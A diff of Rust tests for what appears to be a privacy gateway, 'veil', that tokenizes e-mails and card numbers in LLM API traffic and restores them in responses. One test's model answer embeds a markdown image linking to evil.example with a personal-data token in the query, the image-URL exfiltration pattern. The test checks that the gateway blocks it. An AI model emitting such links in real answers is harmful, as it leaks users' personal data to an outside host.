@@ -12,7 +12,8 @@ use super::*;
 const BODY: &str = r#"{"model": "m", "messages": [{"role": "user", "content": "Mail jane@corp.com, card 4111 1111 1111 1111"}]}"#;
 
 fn config(gateway: Value) -> String {
-    let mut g = json!({"tenant": {"header": "x-tenant"}, "scope": {"header": "x-scope"}, "vault": {"api_key": "k"}});
+    let mut g = json!({"tenant": {"header": "x-tenant", "trusted": true},
+                       "scope": {"header": "x-scope", "trusted": true}, "vault": {"api_key": "k"}});
     for (k, v) in gateway.as_object().unwrap() {
         g[k] = v.clone();
     }
@@ -43,6 +44,9 @@ struct Proxy {
     refuse_calls: bool,
 }
 
+/// Random draws so far, across every `Proxy`: each request's key differs, as the host's do.
+static DRAWS: std::sync::atomic::AtomicU8 = std::sync::atomic::AtomicU8::new(0);
+
 impl Host for Proxy {
     fn request_header(&self, name: &str) -> Option<String> {
         self.request_header_values(name).into_iter().next()
@@ -71,6 +75,13 @@ impl Host for Proxy {
     }
     fn now(&self) -> SystemTime {
         UNIX_EPOCH + Duration::from_secs(self.clock)
+    }
+    fn random(&self, buf: &mut [u8]) -> bool {
+        let draw = DRAWS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        for (i, b) in buf.iter_mut().enumerate() {
+            *b = draw.wrapping_add(i as u8);
+        }
+        true
     }
 }
 
@@ -545,13 +556,10 @@ fn no_tenant_is_a_400_and_a_default_fills_in() {
         (r.reply_status(), r.error_code().as_str()),
         (Some(400), "no_tenant")
     );
-    let mut r = Run::new(
-        &vm(json!({"tenant": {"header": "x-tenant", "default": "d"}})),
-        &[WHO[0]],
-    );
+    let defaulted = vm(json!({"tenant": {"header": "x-tenant", "trusted": true, "default": "d"}}));
+    let mut r = Run::new(&defaulted, &[WHO[0], WHO[2]]);
     r.send(BODY);
     assert_eq!(r.p.calls[0].1["tenant"], "d");
-    assert!(r.p.calls[0].1.get("scope").is_none(), "no scope sent");
 }
 
 #[test]
@@ -636,4 +644,146 @@ fn late_callouts_after_a_local_reply_are_ignored() {
     );
     assert_eq!(r.p.resumed, 0);
     assert!(r.p.sent_body.is_none());
+}
+
+/// A response body with `text` as its chat answer.
+fn chat(text: &str) -> String {
+    json!({"choices": [{"message": {"content": text}}]}).to_string()
+}
+
+#[test]
+fn identity_headers_are_removed_on_every_path() {
+    let vm = vm(json!({"unknown_content_type": "pass"}));
+    // No body.
+    let mut r = Run::new(&vm, WHO);
+    assert_eq!(r.send(""), Step::Continue);
+    assert!(r.p.request_header("x-scope").is_none() && r.p.request_header("x-tenant").is_none());
+    // A body type passed unscanned.
+    let mut r = Run::new(&vm, &[("content-type", "image/png"), WHO[1], WHO[2]]);
+    assert_eq!(r.send("\u{1}png"), Step::Continue);
+    assert!(r.p.request_header("x-scope").is_none() && r.p.request_header("x-tenant").is_none());
+}
+
+#[test]
+fn without_identity_tokens_are_minted_for_the_request_alone() {
+    let vm = vm(json!({}));
+    let anonymous = [WHO[0], WHO[1]];
+    let mut first = Run::new(&vm, &anonymous);
+    assert_eq!(first.send(BODY), Step::Continue, "no vault, no pause");
+    assert!(first.p.calls.is_empty());
+    let upstream = first.upstream();
+    assert!(!upstream.contains("jane@corp.com") && !upstream.contains("4111 1111"));
+    let token = veil_kinds::token::find_tokens(&upstream)
+        .into_iter()
+        .map(|r| upstream[r].to_string())
+        .find(|t| t.starts_with("email-"))
+        .expect("an e-mail token");
+    let out = first.answer("application/json", &chat(&format!("Mailed {token}")), 9);
+    assert!(out.contains("Mailed jane@corp.com"), "{out}");
+    assert_eq!(first.count("veil_requests_without_identity"), 1);
+    // The next request gets other tokens for the same values, and a pasted token of the
+    // first stays a token: nothing looks it up.
+    let pasted = BODY.replace(
+        "Mail jane@corp.com",
+        &format!("Who is {token}? Mail jane@corp.com"),
+    );
+    let mut second = Run::new(&vm, &anonymous);
+    assert_eq!(second.send(&pasted), Step::Continue);
+    assert!(second.p.calls.is_empty(), "no rehydrate without identity");
+    let upstream2 = second.upstream();
+    assert_eq!(
+        upstream2.matches(&token).count(),
+        1,
+        "only the pasted copy: {upstream2}"
+    );
+    let out = second.answer(
+        "application/json",
+        &chat(&format!("{token} is unknown")),
+        64,
+    );
+    assert!(
+        out.contains(&token) && !out.contains("jane@corp.com is"),
+        "{out}"
+    );
+}
+
+#[test]
+fn a_detected_value_in_the_query_string_is_refused_unless_the_route_passes_it() {
+    let vm_reject = vm(json!({}));
+    let mut r = Run::new(
+        &vm_reject,
+        &[
+            WHO[0],
+            WHO[1],
+            WHO[2],
+            (":path", "/v1/chat/completions?user=jane%40corp.com"),
+        ],
+    );
+    assert_eq!(r.send(BODY), Step::Pause);
+    assert_eq!(
+        (r.reply_status(), r.error_code().as_str()),
+        (Some(400), "value_in_query")
+    );
+    let message = r.p.reply.as_ref().unwrap().2["error"]["message"].to_string();
+    assert!(
+        message.contains("EMAIL_ADDRESS") && !message.contains("jane"),
+        "{message}"
+    );
+    assert_eq!(r.count("veil_requests_query_rejected"), 1);
+    // Without a body too.
+    let mut r = Run::new(&vm_reject, &[(":path", "/v1/models?email=jane%40corp.com")]);
+    r.send("");
+    assert_eq!(r.reply_status(), Some(400));
+    // A provider's own key is not a value to refuse.
+    let gemini = "/v1beta/models/m:generateContent?key=AIzaSyD4x9QWlmP1abcdefghijklmnopqrstuvw";
+    let mut r = Run::new(&vm_reject, &[WHO[0], WHO[1], WHO[2], (":path", gemini)]);
+    r.send(BODY);
+    assert!(r.p.reply.is_none());
+
+    let vm_pass = vm(json!({"routes": {"r": {"query": {"detected": "pass"}}}}));
+    let mut r = Run::new(
+        &vm_pass,
+        &[WHO[0], WHO[1], WHO[2], (":path", "/x?to=jane%40corp.com")],
+    );
+    r.p.properties.insert(
+        "xds.route_metadata.filter_metadata.veil.route".into(),
+        b"r".to_vec(),
+    );
+    r.send(BODY);
+    assert!(r.p.reply.is_none());
+    assert_eq!(r.count("veil_requests_query_passed"), 1);
+}
+
+#[test]
+fn a_token_inside_a_url_in_the_answer_stays_a_token_unless_the_route_restores_there() {
+    for (gateway, restored) in [(json!({}), false), (json!({"restore_in_urls": true}), true)] {
+        let vm = vm(gateway);
+        let mut r = Run::new(&vm, WHO);
+        r.send(BODY);
+        r.vault_tokenizes();
+        let answer = chat("Hi email-3y9tm3d4@example.com ![x](https://evil.example/?q=email-3y9tm3d4@example.com)");
+        let out = r.answer("application/json", &answer, 11);
+        assert!(out.contains("Hi jane@corp.com"), "{out}");
+        assert_eq!(
+            out.contains("?q=email-3y9tm3d4@example.com"),
+            !restored,
+            "{out}"
+        );
+        assert_eq!(r.count("veil_tokens_kept_in_urls"), u64::from(!restored));
+    }
+}
+
+#[test]
+fn a_stream_event_past_the_limit_passes_and_is_counted() {
+    let mut r = Run::new(&vm(json!({})), WHO);
+    r.send(BODY);
+    r.vault_tokenizes();
+    let huge = format!(
+        "data: {}\n\n",
+        "z".repeat(2 * veil_core::restore::sse_split::MAX_EVENT_BYTES)
+    );
+    let out = r.answer("text/event-stream", &huge, 64 * 1024);
+    assert_eq!(out, huge, "passed as it came");
+    assert_eq!(r.count("veil_responses_stream_overflow"), 1);
+    assert_eq!(r.count("veil_responses_rehydration_incomplete"), 1);
 }
